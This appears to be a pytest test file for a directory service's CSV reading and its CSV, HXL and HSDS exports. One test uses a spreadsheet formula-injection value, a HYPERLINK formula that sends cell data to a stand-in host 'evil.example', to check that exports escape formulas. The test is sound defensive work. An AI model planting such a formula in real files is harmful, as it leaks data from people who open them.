"""CSV reading and the HSDS/HXL shapes, without a stack."""

import csv
import io
import json
import uuid
from pathlib import Path

import jsonschema
import pytest

from gateway.formats import directory
from tilts_contracts.errors import Invalid

SCHEMA = json.loads(
    (Path(directory.__file__).parent / "schemas/hsds-3.0-organizations.schema.json").read_text()
)


def validate(document: dict) -> None:
    jsonschema.validate(document, SCHEMA, format_checker=jsonschema.FormatChecker())


def test_rows_are_read_with_lists_a_bom_and_the_line_they_start_on():
    rows = directory.read_csv("\ufeffName,Email,Domains\nA,a@x.org,legal; social\n\n")
    assert rows == [{"_line": 2, "name": "A", "email": "a@x.org", "domains": ["legal", "social"]}]
    assert directory.fields_of(rows[0]) == {
        "name": "A",
        "email": "a@x.org",
        "domains": ["legal", "social"],
    }


@pytest.mark.parametrize("delimiter", [";", "\t"])
def test_a_semicolon_or_tab_csv_is_read_as_the_header_shows(delimiter):
    text = (
        delimiter.join(["name", "email", "domains", "description"])
        + "\n"
        + delimiter.join(["Drošā māja", "a@x.lv", '"legal;social"', '"iela 1, Rīga"'])
        + "\n"
    )
    [row] = directory.read_csv(text)
    assert directory.fields_of(row) == {
        "name": "Drošā māja",
        "email": "a@x.lv",
        "domains": ["legal", "social"],
        "description": "iela 1, Rīga",
    }


def test_a_semicolon_in_a_comma_csv_separates_a_list():
    [row] = directory.read_csv("name,email,domains\nA,a@x.lv,legal;social\n")
    assert row["domains"] == ["legal", "social"]
    with pytest.raises(Invalid) as caught:
        directory.read_csv("name;telefax\nA;1\n")
    assert caught.value.details["_header"][0] == "unknown column 'telefax'"


@pytest.mark.parametrize(
    "header, problem",
    [
        ("name,telefax", "unknown column 'telefax'"),
        ("name,email,email", "column 'email' appears twice"),
        ("name,phone", "missing column 'email'"),
    ],
)
def test_a_bad_header_is_refused_whole_saying_why(header, problem):
    with pytest.raises(Invalid) as caught:
        directory.read_csv(f"{header}\nA,1,2\n")
    assert problem in caught.value.details["_header"]


@pytest.mark.parametrize("text", ["", "\ufeff", "\n\n"])
def test_an_empty_file_is_refused(text):
    with pytest.raises(Invalid) as caught:
        directory.read_csv(text)
    assert "_file" in caught.value.details


def test_a_short_line_is_reported_not_fatal():
    rows = directory.read_csv('name,email\nA,a@x.org\n"B"\nC,c@x.org\n')
    assert rows[0]["name"] == "A" and "_error" in rows[1] and rows[2]["name"] == "C"


def test_an_unclosed_quote_is_reported_on_its_line_and_the_rows_after_it_are_read():
    text = (
        "name,email,description\n"
        "A,a@x.org,\n"
        '"B,b@x.org,\n'  # line 3: the quote never closes
        "C,c@x.org,\n"
        '"Q",q@x.org,"two\n'  # a description may span lines when quoted
        'lines"\n'
        "\n"
        "D,d@x.org,\n"
    )
    rows = directory.read_csv(text)
    assert [(r["_line"], r.get("name")) for r in rows] == [
        (2, "A"),
        (3, None),
        (4, "C"),
        (5, "Q"),
        (8, "D"),
    ]
    assert rows[1]["_error"]["_line"] == ['a quote (") opened on line 3 is not closed']
    assert rows[3]["description"] == "two\nlines"


def test_an_unclosed_description_above_good_rows_is_reported_and_they_are_read():
    good = "".join(f"R{n},r{n}@x.lv,fine\n" for n in range(300))
    rows = directory.read_csv('name,email,description\nA,a@x.lv,"oops\n' + good)
    assert rows[0] == {
        "_line": 2,
        "_error": {"_line": ['a quote (") opened on line 2 is not closed']},
    }
    assert [r["name"] for r in rows[1:]] == [f"R{n}" for n in range(300)]
    assert [r["_line"] for r in rows[1:]] == list(range(3, 303))


@pytest.mark.parametrize(
    "after",
    [
        "B,b@x.lv,\n",  # one good row, then the end of the file
        'B,b@x.lv,x\nC,c@x.lv,"y"\nD,d@x.lv,\n',  # a later quote "closes" it
        "no row here\n",  # the quote runs off the end of the file
    ],
)
def test_a_quote_left_open_never_takes_the_lines_after_it(after):
    rows = directory.read_csv('name,email,description\nA,a@x.lv,"oops\n' + after)
    assert rows[0]["_error"] == {"_line": ['a quote (") opened on line 2 is not closed']}
    assert all(r["_line"] == n for n, r in enumerate(rows, start=2))


def test_a_quoted_description_may_hold_commas_and_addresses_over_several_lines():
    text = (
        "description,name,email\n"
        '"We help with:\nhousing, food, clothes\nwrite to help@x.lv, or call\n'
        'the office",Q,q@x.lv\n'
        "plain,R,r@x.lv\n"
    )
    rows = directory.read_csv(text)
    assert [(r["_line"], r["name"]) for r in rows] == [(2, "Q"), (6, "R")]
    assert rows[0]["description"].splitlines()[1] == "housing, food, clothes"


def test_a_field_over_the_csv_limit_is_one_bad_line_not_the_end_of_the_file():
    text = "name,email\nA,a@x.org\n" + "X" * 140_000 + ",big@x.org\nC,c@x.org\nD,d@x.org\n"
    rows = directory.read_csv(text)
    assert [r.get("name") for r in rows] == ["A", None, "C", "D"]
    assert rows[1]["_line"] == 3 and "field larger" in rows[1]["_error"]["_line"][0]


def test_a_line_separator_inside_a_cell_is_text_not_a_new_line():
    rows = directory.read_csv("name,email,description\nA,a@x.org,one\u2028two\nB,b@x.org,\n")
    assert [r["_line"] for r in rows] == [2, 3]
    assert rows[0]["description"] == "one\u2028two"


def test_the_csv_export_imports_again_with_formulas_read_back_as_written():
    orgs = [
        {
            "id": "org_0123456789ab",
            "status": "verified",
            "name": '=HYPERLINK("http://evil.example/?"&A1,"x")',
            "email": "a@x.org",
            "phone": "+371 26 777 676",
            "domains": ["legal", "social"],
            "regions": ["riga"],
            "languages": [],
        }
    ]
    exported = directory.flat_csv(orgs)
    cells = next(csv.DictReader(io.StringIO(exported)))
    assert cells["name"].startswith("'=") and cells["phone"] == "'+371 26 777 676"
    [row] = directory.read_csv(exported)
    assert directory.fields_of(row) == {
        "name": orgs[0]["name"],
        "email": "a@x.org",
        "phone": "+371 26 777 676",
        "domains": ["legal", "social"],
        "regions": ["riga"],
        "languages": [],
    }


def test_the_hxl_export_guards_formulas():
    text = directory.hxl(
        [{"name": "=1+2", "email": "a@x.org", "status": "pending", "domains": [], "regions": []}]
    )
    assert text.splitlines()[2].startswith("'=1+2,")


def test_hxl_has_the_hashtag_row():
    text = directory.hxl(
        [
            {
                "name": "A",
                "email": "a@x.org",
                "status": "verified",
                "domains": ["health"],
                "regions": ["riga", "latgale"],
            }
        ]
    )
    lines = text.splitlines()
    assert lines[1] == "#org,#sector,#adm1,#contact+email,#status"
    assert lines[2:] == ["A,health,riga,a@x.org,verified", "A,health,latgale,a@x.org,verified"]


ERASED = {
    "name": "Anonymous organisation",
    "email": None,
    "status": "verified",
    "domains": ["health"],
    "regions": ["nationwide"],
}


def test_hxl_and_csv_leave_erased_organisations_out():
    live = {"name": "A", "email": "a@x.org", "status": "verified", "domains": [], "regions": []}
    assert directory.hxl([ERASED, live]).splitlines()[2:] == ["A,,,a@x.org,verified"]
    assert [r["name"] for r in directory.read_csv(directory.flat_csv([ERASED, live]))] == ["A"]
    assert directory.listed([ERASED, live]) == [live]


def test_hxl_writes_no_nationwide_adm1():
    nationwide = {**ERASED, "name": "A", "email": "a@x.org"}
    assert directory.hxl([nationwide]).splitlines()[2:] == ["A,health,,a@x.org,verified"]
    both = {**nationwide, "regions": ["riga", "nationwide"]}
    assert directory.hxl([both]).splitlines()[2:] == [
        "A,health,riga,a@x.org,verified",
        "A,health,,a@x.org,verified",
    ]


def org(org_id: str, status: str = "verified", **fields) -> dict:
    return {
        "id": org_id,
        "name": f"Biedrība {org_id}",
        "description": "",
        "email": f"{org_id}@x.org",
        "phone": "",
        "website": None,
        "status": status,
        "domains": ["social"],
        "regions": ["riga"],
        "languages": ["lv"],
        **fields,
    }


def offer(offer_id: str, org_id: str, **fields) -> dict:
    return {
        "id": offer_id,
        "organisation_id": org_id,
        "title": "Konsultācijas",
        "description": "",
        "status": "active",
        "public": True,
        "domain": "social",
        "regions": ["riga"],
        "languages": ["lv"],
        **fields,
    }


def test_hsds_has_uuids_no_nulls_the_tilts_id_phones_and_the_domains():
    orgs = [org("org_1", phone="+371 67 000 000"), org("org_2", website="https://x.lv")]
    document = directory.hsds(orgs, [offer("off_1", "org_1")])
    validate(document)
    first, second = document["organizations"]
    assert str(uuid.UUID(first["id"])) == first["id"] == directory.hsds_id("organisation", "org_1")
    assert "website" not in first and second["website"] == "https://x.lv"
    assert first["organization_identifiers"][0]["identifier"] == "org_1"
    assert first["phones"] == [
        {
            "id": directory.hsds_id("phone", "org_1"),
            "organization_id": first["id"],
            "number": "+371 67 000 000",
        }
    ]
    assert "phones" not in second or second["phones"] == []
    [service] = first["services"]
    assert "description" not in service  # empty: left out, not null
    assert service["organization_id"] == first["id"]
    terms = {(a["link_type"], a["taxonomy_term"]["code"]) for a in first["attributes"]}
    assert terms == {("domain", "social"), ("region", "riga"), ("language", "lv")}
    assert json.dumps(document).count("null") == 0


def test_hsds_lists_verified_organisations_and_public_offers_unless_asked():
    orgs = [
        org("org_v"),
        org("org_p", status="pending"),
        org("org_s", status="suspended"),
        org("org_e", name="Anonymous organisation", email=None),  # erased
    ]
    offers = [
        offer("off_v", "org_v"),
        offer("off_private", "org_v", public=False),
        offer("off_s", "org_s"),
    ]
    document = directory.hsds(orgs, offers)
    validate(document)
    [only] = document["organizations"]
    assert [s["id"] for s in only["services"]] == [directory.hsds_id("offer", "off_v")]
    everything = directory.hsds(orgs, offers, include_unverified=True, include_private=True)
    validate(everything)
    by_name = {o["name"]: o for o in everything["organizations"]}
    assert set(by_name) == {"Biedrība org_v", "Biedrība org_p", "Biedrība org_s"}
    assert len(by_name["Biedrība org_v"]["services"]) == 2
    # a suspended organisation's offer is no active service
    assert [s["status"] for s in by_name["Biedrība org_s"]["services"]] == ["inactive"]


def test_the_schema_refuses_what_hsds_refuses():
    document = directory.hsds([org("org_1")], [offer("off_1", "org_1")])
    for spoil in (
        lambda d: d["organizations"][0].update(website=None),
        lambda d: d["organizations"][0].update(id="org_1"),
        lambda d: d["organizations"][0]["services"][0].update(status="open-ish"),
        lambda d: d["organizations"][0]["services"][0].update(description=None),
        lambda d: d["organizations"][0].update(email="not-an-email"),
    ):
        spoiled = json.loads(json.dumps(document))
        spoil(spoiled)
        with pytest.raises(jsonschema.ValidationError):
            validate(spoiled)


def test_a_private_person_is_exported_by_no_name_or_contact_with_their_offers():
    person = org(
        "org_p",
        kind="individual",
        name="Anna Bērziņa",
        phone="+371 29 777 888",
        website="https://anna.example.lv",
        description="Esmu Anna Bērziņa",
    )
    document = directory.hsds([person, org("org_n")], [offer("off_1", "org_p")])
    validate(document)
    mine, other = document["organizations"]
    assert (mine["name"], mine["description"]) == ("a private person", "a private person")
    assert not {"email", "website"} & set(mine) and not mine.get("phones")
    assert [s["name"] for s in mine["services"]] == ["Konsultācijas"]
    assert other["name"] == "Biedrība org_n"  # an organisation keeps its name
    hxl = directory.hxl([person])
    assert "Bērziņa" not in hxl and "org_p@x.org" not in hxl
    assert hxl.splitlines()[2] == "a private person,social,riga,,verified"
    flat = directory.flat_csv([person, org("org_n")])
    assert not [n for n in ("Bērziņa", "org_p@x.org", "777 888", "anna.example") if n in flat]
    rows = list(csv.DictReader(io.StringIO(flat)))
    assert [(r["name"], r["kind"], r["email"]) for r in rows] == [
        ("a private person", "individual", ""),
        ("Biedrība org_n", "", "org_n@x.org"),
    ]
    whole = directory.flat_csv([person], name_private_persons=True)  # an admin's re-import
    assert "Anna Bērziņa" in whole and "org_p@x.org" in whole
